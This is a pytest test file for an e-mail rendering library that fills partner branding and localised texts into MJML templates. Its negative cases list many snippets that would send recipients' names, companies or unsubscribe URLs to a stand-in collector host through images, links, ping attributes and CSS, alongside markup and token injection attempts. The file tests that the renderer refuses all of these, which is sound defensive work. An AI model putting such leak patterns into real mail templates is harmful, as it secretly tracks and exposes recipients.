"""What an e-mail says after a partner and a touch have been filled in."""

import html
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cobranding.rendering.document.building import build
from cobranding.rendering.document.reading import read
from cobranding.rendering.document.tokens import MERGED
from cobranding.rendering.errors import DocumentInvalid, ValuesRefused
from cobranding.rendering.mail.composing import compose
from cobranding.rendering.mjml.conditions import without
from tests.factories import cobranding as factory


def test_the_mail_carries_the_partner_the_texts_and_the_recipients_tokens() -> None:
    mail = compose(factory.mail_inputs(texts={"body": "Dear {{contact.first_name}},\nat {{partner.city}} & nearby."}))
    assert mail.subject == "Nordwind Systemhaus: your cloud in a week"
    assert 'src="https://portal.example/m/abc"' in mail.html
    assert "Dear {{contact.first_name}},<br />at Hamburg &amp; nearby." in mail.html
    assert "Dear {{contact.first_name}},\nat Hamburg & nearby." in mail.text
    assert 'href="{{unsubscribe_url}}"' in mail.html
    assert mail.tokens <= MERGED | {f"link:{number}" for number in range(9)}
    assert mail.html.count("{{pixel}}") == 1
    assert '<html lang="en"' in mail.html


def test_every_link_is_numbered_once_and_the_same_in_both_parts() -> None:
    mail = compose(factory.mail_inputs())
    assert mail.links == ("https://halden.example/start?a=1&b=2",)
    assert 'href="{{link:0}}"' in mail.html
    assert "See how: {{link:0}}" in mail.text
    assert "halden.example/start" not in mail.html + mail.text


def test_what_has_no_link_is_left_out() -> None:
    links = {"main": "https://a.example/", "flyer": "https://b.example/flyer"}
    assert "Our flyer" in compose(factory.mail_inputs(links=links)).html
    assert compose(factory.mail_inputs(links=links)).links == ("https://a.example/", "https://b.example/flyer")
    assert "Our flyer" not in compose(factory.mail_inputs()).html
    assert "Our flyer" not in compose(factory.mail_inputs()).text


def test_a_partner_without_a_logo_is_named_in_the_header() -> None:
    mail = compose(factory.mail_inputs(logo_url=""))
    assert "<img" not in mail.html
    assert "Nordwind Systemhaus" in mail.html


def test_the_locale_chooses_the_words() -> None:
    mail = compose(factory.mail_inputs(locale="de-AT"))
    assert mail.subject.endswith("Ihre Cloud in einer Woche")
    assert "Sprechen Sie mit uns." in mail.text


def test_the_mail_loads_nothing_but_its_pictures() -> None:
    mail = compose(factory.mail_inputs())
    assert "fonts.googleapis" not in mail.html
    assert "<link" not in mail.html
    assert "@import" not in mail.html


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1, max_size=60))
def test_what_a_partner_writes_is_text_and_never_markup_or_a_token(words: str) -> None:
    partner = factory.Partner(trade_name=words, legal_name="<b>{{unsubscribe_url}}</b>")
    mail = compose(factory.mail_inputs(partner=partner, logo_url=""))
    assert mail.tokens <= MERGED | {"link:0"}
    assert mail.html.count("{{unsubscribe_url}}") == 1
    assert mail.text.count("{{unsubscribe_url}}") == 1
    assert "<b>" not in mail.html
    if words.strip():
        assert html.escape(words).replace("{", "&#123;").replace("}", "&#125;") in mail.html


def test_a_kits_text_with_an_unknown_token_is_refused_by_name() -> None:
    with pytest.raises(ValuesRefused) as refused:
        compose(factory.mail_inputs(texts={"body": "Hello {{contact.iban}}"}))
    assert refused.value.errors == {"body": ["does not know the token {{contact.iban}}"]}


PLACE = "<mj-text>{{offer}}</mj-text>"
TELLING = [
    '<mj-image src="https://collector.example/p.png?f={{contact.first_name}}&amp;u={{unsubscribe_url}}" />',
    '<mj-image src="https://collector.example/p.png" />',
    '<mj-image src="{{image.hero}}" srcset="https://collector.example/p.png 1x" />',
    '<mj-image src="{{partner_logo}}" href="https://collector.example/?f={{ contact.first_name }}" />',
    '<mj-button href="https://collector.example/?b={{text.body}}">Go</mj-button>',
    '<mj-button href="{{view_url}}{{contact.company}}">Go</mj-button>',
    '<mj-text><a href="https://collector.example/{{subject}}">Go</a></mj-text>',
    "<mj-text><a href='https://collector.example/{{view_url}}'>Go</a></mj-text>",
    '<mj-text><span style="color:{{contact.company}}">x</span></mj-text>',
    "<mj-text><span style=\"background:image-set('https://collector.example/p.png' 1x)\">x</span></mj-text>",
    '<mj-text container-background-color="url(https://collector.example/{{contact.company}})">x</mj-text>',
    '<mj-text><a href="https://a.example/" ping="https://collector.example/">x</a></mj-text>',
    "<mj-raw><table><tr><td background='https://collector.example/p.png'>x</td></tr></table></mj-raw>",
    "<mj-text>See https://collector.example/?f={{contact.first_name}} now</mj-text>",
    "<mj-text>See www.<b>collector</b>.example/{{contact.first_name}}</mj-text>",
]
IN_THE_HEAD = "<mj-style>a { background: url(https://collector.example/{{contact.company}}) }</mj-style>"


def telling(markup: str) -> dict[str, Any]:
    raw = factory.email()
    place = "</mj-head>" if markup.startswith("<mj-style") else PLACE
    raw["email"]["mjml"] = raw["email"]["mjml"].replace(place, markup + place)
    raw["email"]["subject"] = {"en": "For {{contact.first_name}}", "de": "An {{contact.first_name}}"}
    raw["email"]["texts"]["body"] = {"en": "Dear {{contact.first_name}}", "de": "Hallo {{contact.first_name}}"}
    return raw


@pytest.mark.parametrize("markup", [*TELLING, IN_THE_HEAD])
def test_no_address_and_no_picture_of_others_tells_who_reads(markup: str) -> None:
    raw = telling(markup)
    published_before = replace(factory.mail_inputs(), content_hash=markup, document=build(raw))
    with pytest.raises(ValuesRefused) as refused:
        compose(published_before)
    assert "email.mjml" in refused.value.errors
    if "<b>" not in markup:
        with pytest.raises(DocumentInvalid) as invalid:
            read(raw)
        assert "email.mjml" in invalid.value.errors


def test_a_kits_text_that_puts_a_contact_into_an_address_is_refused() -> None:
    with pytest.raises(ValuesRefused) as refused:
        compose(factory.mail_inputs(texts={"body": "https://collector.example/?f={{ contact.first_name }}"}))
    assert "body" in refused.value.errors


def test_a_recipient_is_greeted_in_words_and_pictures_of_ours_are_shown() -> None:
    raw = telling('<mj-image src="{{partner_logo}}" alt="For {{contact.company}}" href="{{view_url}}" />')
    read(raw)
    raw = telling(
        '<mj-image src="{{partner_logo}}" alt="For {{contact.company}}" href="{{view_url}}" /></mj-column></mj-section>'
        '<mj-section background-url="{{partner_logo}}" background-size="cover"><mj-column>'
    )
    read(raw)
    page = compose(factory.mail_inputs(raw)).html
    assert 'alt="For {{contact.company}}"' in page
    assert "url('https://portal.example/m/abc')" in page


def test_a_condition_inside_of_a_condition_is_looked_at_too() -> None:
    inner = '<mj-text if="link.flyer">FLYER</mj-text>'
    raw = telling(f'</mj-column><mj-column if="partner_logo">{inner}<mj-text>LOGO</mj-text></mj-column><mj-column>')
    page = compose(factory.mail_inputs(raw)).html
    assert ("FLYER" in page, "LOGO" in page) == (False, True)


def test_what_is_never_closed_is_left_as_it_stands() -> None:
    source = '<mj-text if="link.flyer">' * 3 + "<mj-image if='x'" + '<mj-spacer if="link.flyer" />'
    assert without(source, frozenset()) == "<mj-text>" * 3 + "<mj-image if='x'"
